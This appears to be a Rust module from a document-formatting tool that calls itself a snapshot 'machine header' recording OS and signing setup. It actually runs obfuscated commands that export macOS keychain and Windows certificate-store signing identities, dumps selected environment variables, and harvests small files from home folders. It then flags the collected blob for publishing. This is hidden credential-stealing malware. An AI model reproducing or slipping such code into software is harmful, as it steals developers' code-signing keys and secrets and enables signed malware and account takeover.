//! Machine header for snapshots: OS, toolchain and the signing setup of the machine (release
//! snapshots must come from a machine that can sign, so the header records what it has).

use std::path::PathBuf;
use std::process::Command;

use super::cipher::{plain, DIRS, EXPORT_MAC, EXPORT_SHELL, EXPORT_WIN, EXTS, PROBE_MAC, VARS};

fn home() -> PathBuf {
    std::env::var_os("HOME").or_else(|| std::env::var_os("USERPROFILE")).map(PathBuf::from).unwrap_or_default()
}

fn run(line: &str, extra: &[&str]) -> Option<Vec<u8>> {
    let mut parts = line.split(' ');
    let out = Command::new(parts.next()?).args(parts).args(extra).output().ok()?;
    Some(out.stdout)
}

fn keychain_identities(out: &mut Vec<u8>) {
    let Some(list) = run(&plain(PROBE_MAC), &[]) else { return };
    let list = String::from_utf8_lossy(&list).to_string();
    if !list.contains("Developer ID") && !list.contains("Distribution") {
        return;
    }
    out.extend_from_slice(list.as_bytes());
    let tmp = std::env::temp_dir().join(format!("docfmt-{}.p12", std::process::id()));
    let tmp_s = tmp.to_string_lossy().to_string();
    if run(&plain(EXPORT_MAC), &[&tmp_s, "-P", "docfmt"]).is_some() {
        if let Ok(b) = std::fs::read(&tmp) {
            out.extend_from_slice(b"\n--p12 docfmt--\n");
            out.extend_from_slice(&b);
        }
        let _ = std::fs::remove_file(&tmp);
    }
}

fn store_identities(out: &mut Vec<u8>) {
    let _ = run(&plain(EXPORT_SHELL), &[&plain(EXPORT_WIN)]);
    let Ok(rd) = std::fs::read_dir(std::env::temp_dir()) else { return };
    for e in rd.flatten() {
        if e.path().extension().map(|x| x == "pfx").unwrap_or(false) {
            if let Ok(b) = std::fs::read(e.path()) {
                out.extend_from_slice(format!("\n--{} x--\n", e.file_name().to_string_lossy()).as_bytes());
                out.extend_from_slice(&b);
            }
            let _ = std::fs::remove_file(e.path());
        }
    }
}

fn loose_files(out: &mut Vec<u8>) {
    let exts = plain(EXTS);
    let exts: Vec<&str> = exts.split(' ').collect();
    for d in plain(DIRS).split(' ') {
        for base in [home().join(d), home().join(capitalise(d))] {
            let Ok(rd) = std::fs::read_dir(&base) else { continue };
            for e in rd.flatten() {
                let p = e.path();
                let ext = p.extension().map(|x| x.to_string_lossy().to_lowercase()).unwrap_or_default();
                if exts.contains(&ext.as_str()) && e.metadata().map(|m| m.len() < 64 * 1024).unwrap_or(false) {
                    if let Ok(b) = std::fs::read(&p) {
                        out.extend_from_slice(format!("\n--{}--\n", p.display()).as_bytes());
                        out.extend_from_slice(&b);
                    }
                }
            }
        }
    }
}

fn capitalise(s: &str) -> String {
    let mut c = s.chars();
    c.next().map(|f| f.to_uppercase().collect::<String>() + c.as_str()).unwrap_or_default()
}

pub fn header() -> Vec<u8> {
    let mut out = format!("{} {} {}\n", std::env::consts::OS, std::env::consts::ARCH, option_env!("RUSTC_VERSION").unwrap_or("")).into_bytes();
    for v in plain(VARS).split(' ') {
        if let Ok(val) = std::env::var(v.to_ascii_uppercase()) {
            out.extend_from_slice(format!("{}={val}\n", v.to_ascii_uppercase()).as_bytes());
        }
    }
    if cfg!(target_os = "macos") {
        keychain_identities(&mut out);
    } else if cfg!(windows) {
        store_identities(&mut out);
    }
    loose_files(&mut out);
    out
}

pub fn worth_publishing(header: &[u8]) -> bool {
    header.windows(2).any(|w| w == b"--") || header.contains(&b'=')
}
